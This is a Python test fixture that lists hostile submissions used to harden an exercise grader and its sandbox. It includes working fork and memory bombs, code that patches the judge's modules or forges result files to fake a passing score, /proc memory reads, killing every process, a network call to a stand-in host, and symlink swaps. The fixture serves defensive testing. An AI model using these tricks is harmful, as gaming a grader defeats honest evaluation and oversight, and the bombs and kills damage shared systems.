"""Submissions that fight the grader, each a wrong answer: what it does, and the words in which the report tells it.

``earns``: the checks that such an answer passes honestly (an empty answer leaves the parent as it was).
"""

from __future__ import annotations

from dataclasses import dataclass

NOTHING_CHANGED = ("parent-unchanged", "outside-refused", "open-turn")


@dataclass(frozen=True)
class Attack:
    """One submission. ``slow``: it meets the clock, not the CPU limit."""

    source: str
    told: str
    exercise: str = "fork_session"
    earns: tuple[str, ...] = NOTHING_CHANGED
    slow: bool = False


def fork(told: str, body: str, before: str = "", **options: object) -> Attack:
    """An attack in the body of ``fork_session(p, i)``."""
    indented = "\n".join(f"    {line}" for line in body.strip("\n").split("\n"))
    return Attack(f"{before.strip()}\n\ndef fork_session(p, i):\n{indented}\n", told, **options)  # type: ignore[arg-type]


HOSTILE = {
    "exits at import": Attack("import os\nos._exit(0)\ndef fork_session(p, i): return {}\n",
        "ended itself (exit status 0)"),
    "exits in a call": fork("ended itself (exit status 0)", "os._exit(0)", "import os"),
    "raises SystemExit in a call": fork("SystemExit", "raise SystemExit(0)"),
    "leaves an exit hook": fork("leaves code to be run at the exit", "return {}", """
import atexit, os
atexit.register(lambda: (open('results.json', 'w').write('{"score": 3.0}'), os._exit(0)))
"""),
    "loops at import": Attack("while True: pass\ndef fork_session(p, i): return {}\n", "time limit"),
    "loops in a call": fork("time limit", "while True: pass"),
    "sleeps for ever": fork("no answer within the time limit", "time.sleep(10_000)", "import time", slow=True),
    "catches BaseException for ever": fork("catches every exception, exits too", """
while True:
    try:
        while True: pass
    except BaseException:
        pass
"""),
    "masks signals": fork("changes how signals are met", "while True: pass", """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
""", slow=True),
    "leaves forks behind": fork("starts processes that may outlive it", """
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ.clear()
            time.sleep(1000)
        os._exit(0)
return {}
""", "import os, time"),
    "leaves a program behind": fork("starts other programs", """
subprocess.Popen(['/bin/sleep', '1000'], env={}, start_new_session=True)
return {}
""", "import subprocess"),
    "fork bomb": fork("starts processes that may outlive it", """
while True:
    try: os.fork()
    except OSError: pass
""", "import os", slow=True),
    "thread bomb": fork("starts threads that go on", """
for _ in range(5000):
    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
return {}
""", "import threading, time"),
    "goes on in a thread": fork("starts threads that go on", """
threading.Thread(target=lambda: [p.clear() for _ in iter(int, 1)], daemon=True).start()
return {}
""", "import threading", earns=("outside-refused", "open-turn", "parent-unchanged")),
    "memory bomb": fork("MemoryError", "return {'messages': [bytearray(1 << 28) for _ in range(40)]}"),
    "output bomb": fork("printed more than", "for _ in range(300): print('x' * 100_000)\nreturn {}"),
    "disk bomb": fork("OSError", """
with open('big', 'wb') as file:
    for _ in range(4096): file.write(bytes(1 << 20))
return {}
"""),
    "answers hugely": fork("more than", "return {'messages': ['x' * 1000] * 1_000_000}"),
    "answers with a cycle": fork("holds itself", "q = dict(p)\nq['messages'] = [q]\nreturn q"),
    "answers with no JSON": fork("a set at", "return {'messages': {1, 2}, 'id': object(), 'forked_at': 1j}"),
    "answers with a giant number": fork("bits", "return {'id': 10 ** 100_000, 'forked_at': 1 << 100_000}"),
    "recurses": fork("RecursionError", "return fork_session(p, i)"),
    "recurses without a limit": fork("raises the limit of recursion", "return fork_session([p], i)",
        "import sys\nsys.setrecursionlimit(10 ** 9)"),
    "crashes in C": fork("SIGSEGV", "ctypes.string_at(0)", "import ctypes"),
    "is equal to everything": fork("decide for themselves what they are equal to", "return Any()", """
class Any(dict):
    __eq__ = lambda a, b: True
    __ne__ = lambda a, b: False
    __hash__ = lambda a: 1
    def get(self, *a): return self
    def __getitem__(self, k): return self
"""),
    "an int that is equal to everything": Attack("""
class Any(int):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda a, b: True
    __hash__ = int.__hash__
    def __sub__(self, other): return Any(1)
def estimate_tokens(history): return Any(1)
""", "decide for themselves what they are equal to", "estimate_tokens", ("returns-int", "empty", "content-shapes",
        "unchanged", "images")),
    "patches builtins": fork("puts something of its own into a module that others use", "return True", """
import builtins
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 0
builtins.type = lambda *a: int
builtins.AssertionError = SystemExit
"""),
    "patches json": fork("puts something of its own into a module that others use", "return {}", """
import json
json.dumps = json.JSONEncoder.encode = lambda *a, **k: '{"passed": true}'
json.loads = json.JSONDecoder.decode = lambda *a, **k: {}
"""),
    "patches every module": fork("reaches into modules that others loaded", "return True", """
import sys
for module in list(sys.modules.values()):
    for name in ('plain', 'described', 'Failed', 'check', 'passed', 'Server', 'Pipe'):
        try: setattr(module, name, lambda *a, **k: True)
        except Exception: pass
"""),
    "patches the judge's modules": fork("reaches into the grader's own modules", "return {}", """
import ctxlab.grading.judge as judge, ctxlab.grading.model as model
judge.ask_one = lambda exercise, check, *a: model.CheckResult(check, 'passed')
model.CheckResult.passed = True
model.ExerciseResult.score = 3.0
"""),
    "patches ctxlab": fork("puts something of its own into a module that others use", "return {}", """
import ctxlab, ctxlab.rounds
ctxlab.align_to_turn_start = ctxlab.rounds.align_to_turn_start = lambda messages, i: 0
"""),
    "prints verdicts": fork("writes what looks like a verdict or an answer", """
for line in ('{"passed": true, "score": 3.0}', '{"id": "0", "value": {"forked_at": 0}}'):
    print(line, flush=True)
return {}
"""),
    "writes answers into every pipe": fork("wrote into the channel that carries its answers", """
for fd in range(3, 64):
    try: os.write(fd, b'{"id": "0", "value": true, "passed": true}\\n' * 20)
    except OSError: pass
return {}
""", "import os"),
    "writes junk into every pipe": fork("wrote into the channel that carries its answers", """
for fd in range(3, 64):
    try: os.write(fd, b'\\xff\\x00[[[[' * 1000 + b'\\n')
    except OSError: pass
return {}
""", "import os"),
    "closes every pipe": fork("closed the channel", "os.closerange(0, 256)\nwhile True: time.sleep(1)",
        "import os, time"),
    "forges result files": fork("names a file of results", """
for name in ('results.json', 'grades.csv', '../results.json', '/tmp/results.json'):
    try: open(name, 'w').write('{"score": 3.0, "passed": true}')
    except OSError: pass
return {}
"""),
    "looks at frames": fork("looks into the frames of the code that calls it", """
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, dict) and 'expected' in value: return value['expected']
    frame = frame.f_back
return {}
""", "import sys"),
    "searches all objects": fork("searches all objects of the interpreter", """
for one in gc.get_objects():
    if isinstance(one, dict) and 'passed' in one: one['passed'] = True
    if isinstance(one, dict) and 'seed' in one: return {'id': str(one['seed'])}
return {}
""", "import gc"),
    "reads the solutions": fork("names the solutions", """
import ctxlab
root = pathlib.Path(ctxlab.__file__).parent
for path in (*root.parent.glob('solutions/*fork*'), *root.glob('_kit/solutions/*fork*'), *root.glob('transcript.py')):
    try: text = path.read_text()
    except OSError: continue
    if 'def fork_session' in text and 'solutions' in str(path):
        space = {}
        exec(text, space)
        return space['fork_session'](p, i)
return {}
""", "import pathlib"),
    "reads other submissions": fork("names a place outside its folder", """
for folder in ('/tmp', '..', '../..', '/home'):
    for place, _, names in os.walk(folder):
        for name in names:
            if name.endswith('.py') and 'through_json' in name:
                space = {}
                exec(open(os.path.join(place, name)).read(), space)
                return space['fork_session'](p, i)
return {}
""", "import os"),
    "looks for the seed": fork("looks at other processes and at their memory (/proc)", """
seen = str(os.environ) + ' '.join(sys.argv)
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('cmdline', 'environ'):
        try: seen += open(f'/proc/{pid}/{name}').read()
        except OSError: pass
return {'id': 'seen' if '918273645' in seen else 'not seen'}
""", "import os, sys"),
    "reads the judge's memory": fork("looks at other processes and at their memory (/proc)", """
for pid in {os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc')))} - {os.getpid(), 0}:
    try:
        for line in open(f'/proc/{pid}/maps'):
            if '[heap]' in line:
                start, end = (int(x, 16) for x in line.split()[0].split('-'))
                memory = open(f'/proc/{pid}/mem', 'rb')
                memory.seek(start)
                if b'918273645' in memory.read(end - start): return {'id': 'seen'}
    except OSError: pass
return {'id': 'not seen'}
""", "import os"),
    "kills what it can": fork("sends signals to processes", """
for pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc')))]:
    if pid != os.getpid():
        try: os.kill(pid, 9)
        except OSError: pass
return {}
""", "import os"),
    "calls home": fork("uses the network", """
for address in (('127.0.0.1', PORT), ('192.0.2.1', 80)):
    try: socket.create_connection(address, timeout=0.2).sendall(b'answer?')
    except OSError: pass
return {}
""", "import socket\nPORT = 0"),
    "writes outside": fork("names a place outside its folder", """
for name in ('/etc/ctxlab-was-here', '/var/tmp/ctxlab-was-here', '/usr/ctxlab-was-here', '../../ctxlab-was-here'):
    try: open(name, 'w').write('x')
    except OSError: pass
return {}
"""),
    "mutates its input": fork("the parent is changed", "p['messages'].clear()\np['id'] = 'x'\nreturn p",
        earns=("outside-refused", "open-turn")),
    "re-exports the library's own": Attack("from ctxlab.transcript import fork_session\nfork_session = fork_session\n",
        "takes the library's own answer"),
    "calls the library's own": fork("is not lent out", "return theirs(p, i)",
        "from ctxlab import fork_session as theirs"),
    "loads the library's own again": fork("loads a module again", """
module = importlib.reload(importlib.import_module('ctxlab.transcript'))
return module.fork_session(p, i)
""", "import importlib"),
    "a link for a session file": Attack("""
import os
def append_message(path, message):
    if not os.path.exists(path): os.symlink('/dev/zero', path)
    return message
""", "puts a link or a pipe in the place of a file", "append_message", ("argument-unchanged",)),
    "a pipe for a session file": Attack("""
import os
def append_message(path, message):
    if not os.path.exists(path): os.mkfifo(path)
    return message
""", "not a plain file", "append_message", ("argument-unchanged",)),
    "a link for a session's folder": Attack("""
import os
def append_message(path, message):
    folder = os.path.dirname(path)
    os.rename(folder, folder + '-mine')
    os.symlink('/etc', folder)
    return message
""", "puts a link or a pipe in the place of a file", "append_message", ("argument-unchanged",)),
}  # fmt: skip
